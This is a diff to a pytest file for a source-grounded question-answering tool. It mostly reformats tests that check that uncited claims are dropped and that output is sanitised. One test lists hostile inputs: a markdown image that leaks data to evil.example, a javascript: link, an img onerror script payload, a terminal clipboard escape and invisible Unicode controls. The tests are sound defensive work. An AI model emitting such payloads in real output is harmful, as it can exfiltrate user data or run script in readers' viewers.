@@ -43,10 +43,12 @@ def shown(text: str) -> str:
     "text",
     [
         pytest.param("The ferry company cancelled at least 40 sailings on Monday [1].", id="its own words"),
-        pytest.param("Article 1 says that “the ferry company cancelled at least 40 sailings on Monday” [1].", id="quoted"),
+        pytest.param(
+            "Article 1 says that “the ferry company cancelled at least 40 sailings on Monday” [1].", id="quoted"
+        ),
         pytest.param("Harbour police have not closed the pier [2].", id="denied, as in the row"),
     ],
-)  # fmt: skip
+)
 def test_what_a_row_carries_passes(text):  # type: ignore[no-untyped-def]
     assert checked(text).statements
     assert not checked(text).dropped
@@ -64,7 +66,7 @@ def test_what_a_row_carries_passes(text):  # type: ignore[no-untyped-def]
         pytest.param("The ferry company cancelled at least 40 sailings on Monday.", id="no row"),
         pytest.param("The ferry company cancelled at least 40 sailings on Monday [9].", id="unknown row alone"),
     ],
-)  # fmt: skip
+)
 def test_what_no_row_carries_is_dropped_and_said_to_be(text):  # type: ignore[no-untyped-def]
     result = checked(text)
     assert result.statements == ()
@@ -91,10 +93,17 @@ def test_a_quotation_is_shown_as_the_row_has_it():  # type: ignore[no-untyped-de
 @pytest.mark.parametrize(
     "hostile",
     [
-        "![x](http://evil.example/?d=secret)", "[click](javascript:alert(1))", "https://evil.example/x", "www.evil.example",
-        "<img src=x onerror=alert(1)>", "\x1b]52;c;aGk=\x07", "\u202e", "\U000e0041", "[ref]: http://evil.example",
+        "![x](http://evil.example/?d=secret)",
+        "[click](javascript:alert(1))",
+        "https://evil.example/x",
+        "www.evil.example",
+        "<img src=x onerror=alert(1)>",
+        "\x1b]52;c;aGk=\x07",
+        "\u202e",
+        "\U000e0041",
+        "[ref]: http://evil.example",
     ],
-)  # fmt: skip
+)
 def test_links_images_markup_and_control_characters_never_come_through(hostile):  # type: ignore[no-untyped-def]
     text = shown(f"The ferry company cancelled at least 40 sailings {hostile} on Monday [1].")
     for piece in ("http", "www.", "javascript", "<", "\x1b", "\x07", "\u202e", "\U000e0041", "]("):
@@ -127,14 +136,14 @@ class Says:
 class NeverEnds:
     name = "never:ends"
 
-    def stream(self, prompt: str) -> Iterator[str]:
+    def stream(self, prompt: str) -> Iterator[str]:  # noqa: ARG002
         return itertools.repeat("and on ")
 
 
 class Hangs:
     name = "hangs:on"
 
-    def stream(self, prompt: str) -> Iterator[str]:
+    def stream(self, prompt: str) -> Iterator[str]:  # noqa: ARG002
         yield "The "
         time.sleep(3600)
 
@@ -142,7 +151,7 @@ class Hangs:
 class Fails:
     name = "fails:always"
 
-    def stream(self, prompt: str) -> Iterator[str]:
+    def stream(self, prompt: str) -> Iterator[str]:  # noqa: ARG002
         raise ModelFailed("the endpoint answered 500")
         yield ""
 
@@ -155,9 +164,13 @@ STORY = (
 def ask_with(model: ChatModel, language: LanguageReader) -> tuple[Answer, MemorySources]:
     sources = MemorySources({"a1.txt": STORY, "b2.txt": "The ferry to the island sailed on Tuesday again."})
     answer = answer_question(
-        "How many sailings were cancelled?", sources=sources, reader=language, verifier=load_verifier("lexical"),
-        scope=Scope(), phrase_with=model,
-    )  # fmt: skip
+        "How many sailings were cancelled?",
+        sources=sources,
+        reader=language,
+        verifier=load_verifier("lexical"),
+        scope=Scope(),
+        phrase_with=model,
+    )
     return answer, sources
 
 
